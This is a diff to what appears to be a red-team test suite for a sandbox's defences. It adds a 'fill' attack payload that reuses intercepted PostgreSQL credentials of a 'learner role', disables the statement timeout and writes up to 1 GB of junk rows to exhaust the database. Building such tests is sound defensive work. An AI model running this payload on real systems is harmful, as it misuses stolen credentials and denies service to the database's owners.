@@ -631,10 +631,47 @@ if _first_time("resources"):
     _background(_resources)
 """
 
+# --- 11. a database that grows without end ------------------------------------------------------------------
+FILL = """
+def _fill():
+    import psycopg2
+    deadline = _time.monotonic() + 30
+    while not _CREDENTIALS and _time.monotonic() < deadline:
+        _time.sleep(0.1)
+    if not _CREDENTIALS:
+        _say("never saw the learner role's credentials")
+        return
+    args, kwargs = _CREDENTIALS[0]
+    written = 0
+    try:
+        conn = _original_connect(*args, **kwargs)
+        conn.autocommit = True
+        cur = conn.cursor()
+        cur.execute("SET statement_timeout = 0")
+        try:
+            cur.execute("CREATE TABLE IF NOT EXISTS filler_of_the_attacker (x text)")
+            table = "filler_of_the_attacker"
+        except psycopg2.Error:
+            cur.execute("CREATE SCHEMA IF NOT EXISTS attacker; CREATE TABLE attacker.filler (x text)")
+            table = "attacker.filler"
+        rows = "SELECT repeat('x', 1000) FROM generate_series(1, 20000)"
+        for _ in range(50):  # 20 MB a statement, 1 GB at most: the test machine survives a failed defence
+            cur.execute(f"INSERT INTO {{table}} {{rows}}")
+            written += 20
+        _say(f"WROTE {{written}} MB into its database and was never stopped")
+    except psycopg2.Error as exc:
+        _say(f"filler stopped after {{written}} MB: {{str(exc).splitlines()[0][:120]}}")
+
+
+if _first_time("fill"):
+    _background(_fill)
+"""
+
 ATTACKS = {
     "forge": FORGE,
     "pg-super": PG_SUPER,
     "exhaust": EXHAUST,
+    "fill": FILL,
     "daemon": DAEMON,
     "malformed": MALFORMED,
     "snoop": SNOOP,
